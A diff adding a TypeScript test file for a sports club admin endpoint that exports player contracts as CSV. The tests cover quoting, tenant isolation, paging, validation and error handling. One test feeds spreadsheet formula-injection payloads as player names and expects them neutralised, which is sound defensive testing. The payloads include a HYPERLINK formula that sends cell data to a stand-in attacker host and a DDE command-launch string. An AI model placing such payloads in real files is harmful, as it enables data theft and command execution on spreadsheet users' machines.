@@ -1,0 +1,261 @@
+import { Writable } from 'node:stream';
+import test from 'ava';
+import { parse } from 'csv-parse/sync';
+import { type DatabasePool, sql } from 'slonik';
+import { CONTRACT_CSV_COLUMNS, contractsCsv } from '../src/http/contracts-csv.ts';
+import { useHarness } from './helpers/context.ts';
+import { type Club, createClub, createPlayer, createTeam, putContractInState } from './helpers/fixtures.ts';
+import { request } from './helpers/http.ts';
+import { startTestServer } from './helpers/server.ts';
+
+// docs/PRODUCT.md, "Admin": GET /admin/contracts.csv, the rows of GET /admin/contracts as a file a
+// spreadsheet opens safely.
+
+const harness = useHarness();
+
+async function exportCsv(club: Club, query: string) {
+  const { server } = harness();
+  return request(server.baseUrl, 'GET', `/admin/contracts.csv${query}`, { token: await server.adminToken(club.slug) });
+}
+
+/** Every JSON page of GET /admin/contracts, joined. */
+async function listAll(club: Club, status: string) {
+  const { server } = harness();
+  const token = await server.adminToken(club.slug);
+  const items: Record<string, unknown>[] = [];
+  let cursor: string | null = null;
+  do {
+    const reply = await request(
+      server.baseUrl,
+      'GET',
+      `/admin/contracts?status=${status}&limit=500${cursor === null ? '' : `&cursor=${cursor}`}`,
+      {
+        token,
+      },
+    );
+    items.push(...reply.body.items);
+    cursor = reply.body.next_cursor;
+  } while (cursor !== null);
+  return items;
+}
+
+const records = (text: string): string[][] => parse(text);
+
+/** A JSON item as its CSV row: team ids joined with spaces, null as an empty cell. */
+const asCsvRow = (item: Record<string, unknown>): string[] =>
+  CONTRACT_CSV_COLUMNS.map((column) => {
+    const value = item[column];
+    if (Array.isArray(value)) return value.join(' ');
+    return value === null || value === undefined ? '' : String(value);
+  });
+
+async function createPlayers(pool: DatabasePool, club: Club, count: number) {
+  await pool.query(sql.unsafe`
+    INSERT INTO players (tenant_id, name, email)
+    SELECT ${club.id}, 'Player ' || n, 'family' || n || '@example.test' FROM generate_series(1, ${count}) AS n
+  `);
+}
+
+test('the header and rows are those of the JSON list for the same status, as a UTF-8 CSV attachment', async (t) => {
+  const { pool } = harness().db;
+  const club = await createClub(pool);
+  const [gold, silver] = [await createTeam(pool, club), await createTeam(pool, club)];
+  await putContractInState(pool, club, await createPlayer(pool, club, { name: 'Dana Park', teamIds: [gold, silver] }), 'offered');
+  await putContractInState(pool, club, await createPlayer(pool, club, { name: 'Sam Lee' }), 'offered');
+  await putContractInState(pool, club, await createPlayer(pool, club, { name: 'Signed One', teamIds: [gold] }), 'signed');
+  await createPlayer(pool, club, { name: 'Nobody Yet' });
+
+  for (const status of ['offered', 'signed', 'none', 'declined']) {
+    const reply = await exportCsv(club, `?status=${status}`);
+    t.is(reply.status, 200, status);
+    t.is(reply.headers.get('content-type'), 'text/csv; charset=utf-8');
+    t.is(reply.headers.get('content-disposition'), `attachment; filename="contracts-${status}.csv"`);
+    const [header, ...rows] = records(reply.body);
+    t.deepEqual(header, [...CONTRACT_CSV_COLUMNS]);
+    const json = await listAll(club, status);
+    t.deepEqual(rows, json.map(asCsvRow), status);
+    if (json[0] !== undefined) t.deepEqual(header, Object.keys(json[0]), 'the columns are the JSON fields, in order');
+  }
+  const [, offered] = records((await exportCsv(club, '?status=offered')).body);
+  t.is(offered?.[5], `${gold} ${silver}`);
+  t.regex(offered?.[6] ?? '', /^https:\/\//);
+});
+
+test('quotes, commas, newlines and unicode in names survive a CSV parser', async (t) => {
+  const { pool } = harness().db;
+  const club = await createClub(pool);
+  const names = [
+    'Park, Dana',
+    'Dana "DP" Park',
+    'Line one\nline two',
+    'Carriage\r\nreturn',
+    'Zoë O’Brien',
+    '日本語 👨‍👩‍👧‍👦',
+    ' leading and trailing ',
+    '"',
+    "O'Brien",
+  ];
+  for (const name of names) await createPlayer(pool, club, { name, email: 'a,"b"@example.test' });
+
+  const reply = await exportCsv(club, '?status=none');
+
+  t.is(reply.status, 200);
+  const [, ...rows] = records(reply.body);
+  t.deepEqual(
+    rows.map((row) => row[1]),
+    names,
+  );
+  t.true(rows.every((row) => row[2] === 'a,"b"@example.test'));
+});
+
+test("a cell a spreadsheet would run as a formula is prefixed with '", async (t) => {
+  const { pool } = harness().db;
+  const club = await createClub(pool);
+  const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1', '-2', '@x', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
+  for (const name of formulas) await createPlayer(pool, club, { name });
+  await createPlayer(pool, club, { name: 'Safe = name', email: '=evil@example.test' });
+
+  const [, ...rows] = records((await exportCsv(club, '?status=none')).body);
+
+  t.deepEqual(
+    rows.map((row) => row[1]),
+    [...formulas.map((name) => `'${name}`), 'Safe = name'],
+  );
+  t.is(rows.at(-1)?.[2], "'=evil@example.test");
+});
+
+test("another club's players never appear", async (t) => {
+  const { pool } = harness().db;
+  const [mine, theirs] = [await createClub(pool), await createClub(pool)];
+  await putContractInState(pool, theirs, await createPlayer(pool, theirs, { name: 'Theirs' }), 'offered');
+  await createPlayer(pool, theirs, { name: 'Theirs too' });
+
+  for (const status of ['offered', 'none']) {
+    const reply = await exportCsv(mine, `?status=${status}`);
+    t.is(reply.status, 200);
+    t.deepEqual(records(reply.body), [[...CONTRACT_CSV_COLUMNS]]);
+  }
+});
+
+test('2,500 players export in full, in id order, across pages', async (t) => {
+  const { pool } = harness().db;
+  const club = await createClub(pool);
+  await createPlayers(pool, club, 2500);
+
+  const reply = await exportCsv(club, '?status=none');
+
+  t.is(reply.status, 200);
+  const [, ...rows] = records(reply.body);
+  t.is(rows.length, 2500);
+  const ids = rows.map((row) => Number(row[0]));
+  t.is(new Set(ids).size, 2500);
+  t.deepEqual(
+    ids,
+    [...ids].sort((a, b) => a - b),
+  );
+  t.deepEqual(
+    rows.map((row) => row[1]),
+    Array.from({ length: 2500 }, (_, index) => `Player ${index + 1}`),
+  );
+});
+
+const badQueries = [
+  '',
+  '?status=pending',
+  '?status=Offered',
+  '?status=offered&status=signed',
+  '?status=offered&limit=10',
+  '?status=offered&tenant=x',
+];
+for (const query of badQueries) {
+  test(`GET /admin/contracts.csv${query} → 422 validation_failed, as JSON`, async (t) => {
+    const reply = await exportCsv(await createClub(harness().db.pool), query);
+    t.is(reply.status, 422);
+    t.regex(reply.headers.get('content-type') ?? '', /^application\/json/);
+    t.is(reply.body.error.code, 'validation_failed');
+  });
+}
+
+test('without a token → 401, with a token for an unknown club → 403', async (t) => {
+  const { server } = harness();
+  const anonymous = await request(server.baseUrl, 'GET', '/admin/contracts.csv?status=none');
+  t.is(anonymous.status, 401);
+  t.is(anonymous.body.error.code, 'unauthenticated');
+  const stranger = await request(server.baseUrl, 'GET', '/admin/contracts.csv?status=none', {
+    token: await server.adminToken('no-such-club'),
+  });
+  t.is(stranger.status, 403);
+  t.is(stranger.body.error.code, 'forbidden');
+});
+
+test('a page that fails after the answer started cuts the answer off and is logged; the service keeps answering', async (t) => {
+  const { db } = harness();
+  const club = await createClub(db.pool);
+  await createPlayers(db.pool, club, 1500);
+  // The same pool, except that the export's second page fails.
+  let pagesRead = 0;
+  const failing = new Proxy(db.pool, {
+    get(target, property, receiver) {
+      const value = Reflect.get(target, property, receiver);
+      if (property !== 'any') return typeof value === 'function' ? value.bind(target) : value;
+      return (query: { sql: string }) => {
+        if (query.sql.includes('FROM players') && query.sql.includes('contract_status =')) {
+          pagesRead += 1;
+          if (pagesRead === 2) return Promise.reject(new Error('the database went away'));
+        }
+        return target.any(query as never);
+      };
+    },
+  });
+  const lines: string[] = [];
+  const logs = new Writable({
+    write(chunk, _encoding, done) {
+      lines.push(String(chunk));
+      done();
+    },
+  });
+  const server = await startTestServer(failing, { logs });
+  try {
+    const response = await fetch(`${server.baseUrl}/admin/contracts.csv?status=none`, {
+      headers: { authorization: `Bearer ${await server.adminToken(club.slug)}` },
+    });
+    t.is(response.status, 200);
+    await t.throwsAsync(response.text(), undefined, 'the client sees the answer cut off, not a whole file');
+    t.is(pagesRead, 2);
+    t.true(lines.some((line) => line.includes('CSV export failed') && line.includes('the database went away')));
+    const after = await request(server.baseUrl, 'GET', '/admin/contracts.csv?status=offered', {
+      token: await server.adminToken(club.slug),
+    });
+    t.is(after.status, 200);
+  } finally {
+    await server.close();
+  }
+});
+
+test('contractsCsv: a failing page destroys the stream and is reported once', async (t) => {
+  const failures: Error[] = [];
+  async function* pages() {
+    yield [
+      {
+        player_id: 1,
+        name: '-x',
+        email: 'a@example.test',
+        status: 'none' as const,
+        monthly_fee: null,
+        team_ids: [2, 3],
+        contract_url: null,
+        contract_offered_at: null,
+      },
+    ];
+    throw new Error('page two failed');
+  }
+  const stream = contractsCsv(pages(), (error) => failures.push(error));
+  await t.throwsAsync(async () => {
+    for await (const _ of stream);
+  });
+  await new Promise((resolve) => setImmediate(resolve));
+  t.deepEqual(
+    failures.map((error) => error.message),
+    ['page two failed'],
+  );
+});
